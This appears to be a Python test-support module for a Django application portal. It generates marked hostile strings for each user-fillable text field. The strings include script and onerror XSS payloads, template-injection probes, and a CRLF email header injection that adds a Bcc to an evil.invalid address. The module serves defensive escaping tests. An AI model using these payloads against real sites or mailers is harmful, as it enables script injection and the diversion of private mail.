"""Hostile texts: one for each text field that a person can fill, recognisable by its own mark."""

from typing import Final

from django.apps import apps
from django.contrib.postgres.fields import ArrayField
from django.db import models

from intake.profiles import question_kinds
from intake.submissions.questions.offer_questions import QUESTIONS

MARK: Final = "zq"
"""Prefix of every hostile text, followed by three digits. No word, digest or code contains it."""

_WRITTEN_BY_NO_PERSON: Final = {
    "unusable: people sign in by a code": "accounts.User.password",
    "a code of the portal's processes": "journal.Entry.seal",
    "a digest": """
        documents.Upload.clean_sha256 documents.Upload.sha256 dossiers.Dossier.sha256
        dossiers.LostDossier.sha256 dossiers.RemadeReceipt.sha256 dossiers.Seal.digest
        dossiers.SignedReceipt.sha256 journal.Link.commitment journal.Link.digest
        offers.RulebookVersion.digest register.Removal.whole review.DecisionItem.letter
        review.Shortlist.digest review.ShortlistExport.sha256 submissions.Arrival.witness
        submissions.FiledDocument.sha256 submissions.PendingUpload.sha256 submissions.Verdict.facts_digest
        submissions.Verdict.rulebook_digest transparency.Root.hash transparency.Root.key_id
    """,
    "named by the portal": """
        documents.Upload.file documents.Upload.original documents.Upload.small_thumbnail
        documents.Upload.thumbnail dossiers.Dossier.file dossiers.SignedReceipt.file
        outbox.MessageAttachment.storage_name privacy.Erasure.files review.ExportOrder.file_name
        submissions.PendingUpload.file
    """,
    "a code": """
        documents.Upload.kind journal.Entry.action outbox.Delivery.kind
        outbox.MessageAttachment.media_type profiles.NoticeAcceptance.notice
        profiles.NoticeAcceptance.version review.BulkItem.found review.BulkItem.refusal
        review.BulkRun.action review.DecisionBatch.returned_for review.DecisionItem.action
        review.DecisionItem.refusal review.Evidence.kind review.ExportOrder.file_format
        review.ExportOrder.language review.ExportOrder.refusal review.ShortlistExport.file_format
        review.ShortlistExport.language review.ShortlistRow.reserve submissions.Arrival.reason
        submissions.PendingUpload.reason_code submissions.Ruling.kind submissions.Submission.filed_outcome
        submissions.Verdict.outcome
    """,
    "found by the inspection": "documents.Upload.media_type",
    "codes of the inspection": "documents.Upload.neutralised documents.Upload.warnings",
    "a receipt's number": """
        dossiers.Dossier.number dossiers.SignedReceipt.number outbox.MessageAttachment.filename
        transparency.Leaf.number
    """,
    "pages": "dossiers.Dossier.starts",
    "made of the answers, which are planted": "dossiers.Seal.canonical",
    "drawn at random": """
        dossiers.Seal.salt dossiers.SignedReceipt.code outbox.Delivery.request_reference
        submissions.Arrival.request_reference
    """,
    "made of the receipt's facts": "dossiers.SignedReceipt.twin",
    "a key": "journal.Entry.subject_id outbox.Delivery.key outbox.Delivery.subject_id",
    "a model's name": "journal.Entry.subject_kind outbox.Delivery.subject_kind",
    "three letters of ISO 4217": "offers.Offer.currency",
    "letters, figures and hyphens, by a constraint": "offers.Offer.number",
    "one of the zones that the system knows": "offers.Offer.time_zone",
    "a code of the import": "offers.OpenPoint.code",
    "capitals, figures and hyphens, by a constraint": "offers.Programme.code",
    "its clauses are planted where it is written; see clause.*": "offers.RulebookVersion.criteria",
    "made of what is planted, and shown on no page": "outbox.Message.html",
    "made by the portal": "outbox.Message.message_id submissions.Receipt.number",
    "figures and points, by their reading": "outbox.Message.report_code",
    "made of what is planted": "outbox.Message.subject outbox.Message.text",
    "the address of the account, which is planted": "outbox.Message.to_address",
    "a setting": "outbox.MessageAttachment.storage_alias register.Participation.key_name",
    "figures, by its field": "profiles.Profile.phone",
    "digests": "register.Participation.shorter transparency.Leaf.text",
    "a digest: no name is kept": "register.Participation.whole",
    "a process, and a machine": "outbox.Heartbeat.process outbox.Heartbeat.machine",
    "a name of a variable, and a digest": "outbox.KeyInUse.variable outbox.KeyInUse.fingerprint",
    "a class and a code": "outbox.Outage.reason",
    "codes": "submissions.Arrival.declarations submissions.ComplementRequest.sections",
    "each answer is planted; see answer.*": "submissions.Draft.answers",
    "letters": "review.ReadingKeys.keys",
    "a name and a digest of the portal": "dossiers.PagePictures.file dossiers.PagePictures.sha256",
    "figures and codes of the inspection": "submissions.PendingUpload.facts",
    "an identifier of the portal": "submissions.PendingUpload.seen",
    "made of the sealed names, which are planted": "submissions.Submission.filed_name",
    "places": "submissions.Verdict.blocking",
}
"""Text columns that hold nothing a person enters, by the reason. Columns with choices are not listed."""
NO_PERSON_WRITES: Final = frozenset(
    name for names in _WRITTEN_BY_NO_PERSON.values() for name in names.split()
)

TYPED_ANSWERS: Final = {
    key: question.max_length
    for key, question in QUESTIONS.items()
    if isinstance(question, question_kinds.Text | question_kinds.Paragraphs)
}
"""The questions that a text answers, programmes of study and grid apart, each with its number of characters."""
ELSEWHERE: Final = (
    *(f"answer.{key}" for key in TYPED_ANSWERS),
    *("answer.field_of_study", "answer.institution", "answer.grid", "answer.file_name"),
    *("clause.reference", "clause.text"),
    "typed",
)
"""Texts that have no column: typed into forms, or stored inside other texts (answers, seals, an offer's criteria)."""


def texts_of_models() -> list[str]:
    """Return every text column of the portal's models, without those that hold a choice."""
    return sorted(
        f"{model._meta.label}.{field.name}"
        for model in apps.get_models()
        if model.__module__.startswith(("intake.", "offers."))
        for field in model._meta.concrete_fields
        if isinstance(
            field, (models.CharField, models.TextField, models.JSONField, models.FileField, ArrayField)
        )
        if not field.choices
    )


PLANTED: Final = (*(name for name in texts_of_models() if name not in NO_PERSON_WRITES), *ELSEWHERE)
FORMS: Final = (
    "{0}<script>{0}()</script><img src={0} onerror={0}()>\"'&amp;{{{{7*7}}}}{{% now 'Y' %}}\r\nBcc: {0}@evil.invalid",
    "{0}<script>{0}()</script>\"'&{{{{7*7}}}}\r\nBcc:{0}",
    "{0}<i onclick={0}>\"'&{{{{7}}}}",
    "{0}<b>\"'",
)
"""Longest first; the last one fits in ten characters."""
ADDRESS: Final = '"{0}<i/onclick={0}>\'&{{{{7*7}}}}"@exemple.invalid'
ONE_LINE: Final = "{0}<script>{0}()</script><img src={0} onerror={0}()>\"'&amp;{{{{7*7}}}}.pdf"


def token_of(name: str) -> str:
    """Return the mark of the hostile text `name`."""
    return f"{MARK}{PLANTED.index(name):03}"


def name_of(token: str) -> str:
    """Return the name from which `token_of` made `token`."""
    return PLANTED[int(token.removeprefix(MARK))]


def wholes_of(token: str) -> list[str]:
    """Return the lines of each form of a hostile text, longest first, without spaces."""
    forms = [*FORMS, ONE_LINE, ADDRESS]
    lines = {"".join(line.split()) for form in forms for line in form.format(token).splitlines()}
    return sorted(lines, key=len, reverse=True)


def hostile(name: str, room: int = 250) -> str:
    """Return the hostile text of `name` in the longest form that fits in `room` characters."""
    if name in {"documents.Upload.original_name", "answer.file_name"}:
        return ONE_LINE.format(token_of(name))  # a file's name is reduced to one line on receipt
    if name.rpartition(".")[2] in {"email", "contact_email"}:
        return f'"{token_of(name)}<i/onclick={token_of(name)}>\'&{{{{7*7}}}}"@exemple.invalid'
    fitting = (text for form in FORMS if len(text := form.format(token_of(name))) <= room)
    return next(fitting)
